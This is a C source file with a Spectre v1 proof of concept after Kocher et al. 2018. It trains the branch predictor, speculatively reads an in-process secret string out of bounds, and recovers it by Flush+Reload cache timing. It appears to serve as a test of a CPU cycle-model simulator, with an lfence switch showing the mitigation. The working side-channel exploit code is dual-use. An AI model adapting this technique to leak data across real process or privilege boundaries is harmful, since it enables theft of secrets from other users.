/* spectre_user.c - Spectre v1 (bounds check bypass) inside one program,
 * after Kocher et al. 2018: victim() checks x against array1_size, the
 * predictor is trained with in-bounds x, then an out-of-bounds x makes the
 * wrong path read secret[i] through array1[x] and touch array2[secret[i] *
 * 512]; Flush+Reload on array2 tells which line came into the cache.
 *
 * Under entrysim this leaks only with --speculate (the cycle model runs the
 * mispredicted path; RDTSCP reads the model's clock, CLFLUSH evicts from
 * its caches); with "lfence" as argument the victim has the barrier after
 * its bound check and nothing leaks.  Prints the recovered string and
 * exits 0 when it equals the secret, 1 otherwise. */
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <x86intrin.h>

static unsigned int array1_size = 16;
static uint8_t pad1[64];
static uint8_t array1[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
static uint8_t pad2[64];
static uint8_t array2[256 * 512] __attribute__((aligned(4096)));
static const char secret[] = "Squeamish Ossifrage";
static uint8_t temp __attribute__((aligned(64)));
static int use_lfence;

static __attribute__((noinline)) void victim(size_t x)
{
    if (x < array1_size) {
        if (use_lfence)
            _mm_lfence();
        temp &= array2[array1[x] * 512];
    }
}

static uint64_t threshold;

static uint64_t probe_time(volatile uint8_t *p)
{
    unsigned aux;
    uint64_t t0 = __rdtscp(&aux);
    (void)*p;
    return __rdtscp(&aux) - t0;
}

/* Halfway between a cached and a flushed line's reload time, as this CPU
 * (or cycle model) measures them. */
static void calibrate(void)
{
    uint64_t hit = 0, miss = 0;
    for (int i = 0; i < 16; i++) {
        volatile uint8_t *p = &array2[i * 512];
        (void)*p;
        hit += probe_time(p);
        _mm_clflush((const void *)p);
        _mm_mfence();
        miss += probe_time(p);
    }
    threshold = (hit + miss) / 32;
}

/* Flush+Reload of one byte at array1 + x; the value whose line was
 * fastest most often. */
static int read_byte(size_t malicious_x)
{
    int hits[256] = {0};
    for (int tries = 0; tries < 20; tries++) {
        for (int i = 0; i < 256; i++)
            _mm_clflush(&array2[i * 512]);
        size_t training_x = (size_t)tries % array1_size;
        for (int j = 29; j >= 0; j--) {
            _mm_clflush(&array1_size);
            for (volatile int z = 0; z < 20; z++)
                ;
            /* no wrong path from the delay loop's own branch may run
             * into victim() and load array1_size back into the cache */
            _mm_lfence();
            /* x = training_x, except every 6th round malicious_x, without
             * a branch */
            size_t x = ((size_t)(j % 6) - 1) & ~(size_t)0xffff;
            x = (x | (x >> 16));
            x = training_x ^ (x & (malicious_x ^ training_x));
            victim(x);
        }
        for (int i = 0; i < 256; i++) {
            int mix = ((i * 167) + 13) & 255;
            if (probe_time(&array2[mix * 512]) <= threshold && mix != array1[tries % array1_size])
                hits[mix]++;
        }
    }
    int best = 0;
    for (int i = 1; i < 256; i++)
        if (hits[i] > hits[best])
            best = i;
    return hits[best] ? best : -1;
}

int main(int argc, char **argv)
{
    use_lfence = argc > 1 && !strcmp(argv[1], "lfence");
    memset(array2, 1, sizeof array2);
    calibrate();
    (void)pad1;
    (void)pad2;
    size_t malicious_x = (size_t)(secret - (const char *)array1);
    char got[sizeof secret] = {0};
    for (size_t i = 0; i + 1 < sizeof secret; i++) {
        int v = read_byte(malicious_x + i);
        got[i] = v >= 32 && v < 127 ? (char)v : '?';
    }
    printf("recovered: %s\n", got);
    return strcmp(got, secret) != 0;
}
